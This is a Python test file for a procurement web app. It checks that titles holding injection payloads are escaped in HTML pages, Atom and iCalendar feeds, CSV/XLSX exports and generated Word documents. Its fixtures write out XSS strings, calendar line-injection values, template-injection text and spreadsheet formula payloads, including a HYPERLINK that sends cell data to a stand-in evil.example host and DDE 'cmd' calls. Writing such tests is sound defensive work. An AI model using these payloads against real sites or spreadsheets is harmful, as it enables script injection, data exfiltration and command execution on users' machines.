"""Text is text everywhere (issue 10): a title or name holding markup or a formula is escaped in the
HTML pages (item page, lot pages, the pipeline), in the Atom feed (well-formed XML, no raw tag) and
the iCalendar feed (no injected lines), neutralised in every CSV/XLSX export (a cell starting with
``=``, ``+``, ``-``, ``@`` never becomes a formula) and kept literal in generated documents (the
XML of word/document.xml parses and holds the escaped text)."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
import pytest
from icalendar import Calendar
from sqlalchemy import select

from tests.test_public import _add_item
from tests.test_public import _no_framework_opportunities as _no_framework_opportunities  # noqa: F401 (autouse)
from tests.test_public_lots import make_tender

pytestmark = pytest.mark.postgres

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = "\"><img src=x onerror=alert(1)>"
MARKUP = [SCRIPT, ATTRIBUTE]
#: what a spreadsheet would run: each must come out as text
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1", "\r=1+1"]
ATOM = "{http://www.w3.org/2005/Atom}"


def _raw_markup_in(text: str) -> list[str]:
    """The payloads that appear unescaped (as markup a browser would run)."""
    return [p for p in ("<script>alert(1)", "<img src=x onerror") if p in text]


@pytest.fixture()
def marked(ctx):
    """Published ROK plan items titled with each payload, and a published ROK tender whose title,
    lot titles and lot descriptions are the payloads."""
    items = {p: _add_item(ctx, "ROK", p, notes_for_seos=p) for p in MARKUP + FORMULAS}
    tender = make_tender(ctx, "ROK", [{"title": SCRIPT, "description": ATTRIBUTE},
                                      {"title": ATTRIBUTE, "description": SCRIPT}], title=ATTRIBUTE)
    ctx.flush()
    return {"items": items, "tender": tender}


# --- HTML ---------------------------------------------------------------------------------------------

def test_html_pages_escape_titles(client, as_user, marked):
    tender = marked["tender"]
    public = ["/opportunities?municipality=ROK", "/opportunities?municipality=ROK&q=alert"]
    public += [f"/opportunities/{item.uid}" for p, item in marked["items"].items() if p in MARKUP]
    public += [f"/opportunities/lots/{lot.id}" for lot in tender.lots]
    for url in public:
        resp = client.get(url)
        html = resp.get_data(as_text=True)
        assert resp.status_code == 200, url
        assert not _raw_markup_in(html), url
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html, url
    # the staff pages of the same tender and lots
    client = as_user("officer.rok@demo.srpp.lt")
    for url in [f"/tenders/{tender.id}", *[f"/tenders/lots/{lot.id}" for lot in tender.lots], "/tenders/"]:
        resp = client.get(url)
        html = resp.get_data(as_text=True)
        assert resp.status_code == 200, url
        assert not _raw_markup_in(html), url
        if url != "/tenders/":
            assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html, url


# --- feeds ----------------------------------------------------------------------------------------------

def test_atom_feed_is_well_formed_and_keeps_titles_as_text(client, marked):
    raw = client.get("/opportunities.atom?municipality=ROK").data
    root = ET.fromstring(raw)  # well-formed XML, or this raises
    assert not _raw_markup_in(raw.decode())
    titles = {e.findtext(f"{ATOM}title") for e in root.iter(f"{ATOM}entry")}
    assert set(MARKUP + FORMULAS) <= titles  # parsed back, each is exactly the text entered
    for entry in root.iter(f"{ATOM}entry"):
        title = entry.find(f"{ATOM}title")
        assert title.get("type", "text") == "text"
        assert len(list(title)) == 0  # no child elements: the markup is not markup
        for content in entry.iter():
            if content.get("type") == "html":  # HTML carried as escaped text must itself be escaped
                assert not _raw_markup_in(content.text or "")


def test_icalendar_feed_keeps_titles_as_text_and_no_line_is_injected(client, ctx, marked):
    injected = _add_item(ctx, "ROK", "Paslauga\r\nBEGIN:VEVENT\r\nUID:evil@srpp\r\nSUMMARY:injected")
    ctx.flush()
    raw = client.get("/opportunities.ics?municipality=ROK").data
    events = Calendar.from_ical(raw).walk("VEVENT")
    summaries = {str(e["SUMMARY"]).strip() for e in events}  # a lone carriage return may be dropped
    assert {p.strip() for p in MARKUP + FORMULAS} <= summaries
    assert "evil@srpp" not in {str(e["UID"]) for e in events}
    assert b"\r\nBEGIN:VEVENT\r\nUID:evil@srpp" not in raw
    assert raw.count(b"\r\nBEGIN:VEVENT\r\n") == len(events)  # the text's own line breaks stay escaped
    assert any(str(e["UID"]) == f"{injected.uid}@srpp" for e in events)


# --- exports ----------------------------------------------------------------------------------------------

_FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _check_export(url: str, data: bytes, fmt: str) -> list[str]:
    problems = []
    if fmt == "csv":
        cells = _csv_cells(data)
        for payload in FORMULAS:
            if payload in cells:
                problems.append(f"{url}: {payload!r} written as it is (a spreadsheet runs it)")
            elif "'" + payload not in cells:
                problems.append(f"{url}: {payload!r} missing")
        problems += [f"{url}: {c!r}" for c in cells if _FORMULA_START.match(c) and not re.fullmatch(r"-[\d.]+", c)]
    else:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", zf.read(name)):
                    problems.append(f"{url}: {name} holds a formula")
        values = {c.value for c in _xlsx_cells(data)}
        problems += [f"{url}: {p!r} missing" for p in FORMULAS if p not in values and p.strip() not in values]
    return problems


def _exports(app) -> list[str]:
    """Every export route of the pages that list plan items and lots (GET ….csv / ….xlsx without ids)."""
    rules = [r.rule for r in app.url_map.iter_rules() if "GET" in r.methods and "<any(csv, xlsx):fmt>" in r.rule
             and len(r.arguments) == 1 and not r.rule.startswith("/api/")]
    return sorted(rules)


def test_exports_neutralise_formulas(app, client, as_user, marked):
    version = marked["items"][SCRIPT].plan_version_id
    urls = [f"/plans/versions/{version}/export.{{fmt}}", "/opportunities.{fmt}?municipality=ROK"]
    for rule in _exports(app):
        if rule.startswith(("/region/", "/opportunities")):
            urls.append(rule.replace("<any(csv, xlsx):fmt>", "{fmt}") + "?municipality=ROK")
    client = as_user("officer.rok@demo.srpp.lt")
    problems = []
    for url in dict.fromkeys(urls):
        for fmt in ("csv", "xlsx"):
            resp = client.get(url.format(fmt=fmt))
            assert resp.status_code == 200, url.format(fmt=fmt)
            problems += _check_export(url.format(fmt=fmt), resp.data, fmt)
    assert not problems, "\n".join(problems)


# --- generated documents -------------------------------------------------------------------------------

def test_generated_document_keeps_markup_as_text(ctx):
    from srpp.auth.models import User
    from srpp.core.models import JobState
    from srpp.documents import services, subjects
    from srpp.documents.kinds import KINDS
    from srpp.tenders.models import Tender

    tender = ctx.scalar(select(Tender).where(Tender.title == "Pagalbos į namus ir mobilumo paketas"))
    tender.title = SCRIPT + " " + ATTRIBUTE
    min(tender.lots, key=lambda lot: lot.number).title = ATTRIBUTE + " & {{ 7*7 }}"
    ctx.flush()
    officer = ctx.scalar(select(User).where(User.email == "officer.pas@demo.srpp.lt"))
    doc = services.request_document(officer, KINDS["tender_specification"], subjects.load("tender", tender.id), "en",
                                    {"social_services_unit": SCRIPT})
    ctx.expire_all()
    assert doc.state == JobState.DONE, doc.job.error
    with zipfile.ZipFile(io.BytesIO(services.content(doc, "docx"))) as zf:
        parts = {n: zf.read(n) for n in zf.namelist() if n.startswith("word/") and n.endswith(".xml")}
    for name, xml in parts.items():
        ET.fromstring(xml)  # every part still parses
        assert b"<script>" not in xml and b"<img src=x" not in xml, name
    body = parts["word/document.xml"].decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert "\"&gt;&lt;img src=x onerror=alert(1)&gt; &amp; {{ 7*7 }}" in body or \
        "&quot;&gt;&lt;img src=x onerror=alert(1)&gt; &amp; {{ 7*7 }}" in body
    texts = "".join(t.text or "" for part in parts.values()
                    for t in ET.fromstring(part).iter("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}t"))
    assert SCRIPT in texts and ATTRIBUTE + " & {{ 7*7 }}" in texts  # literal: neither markup nor evaluated
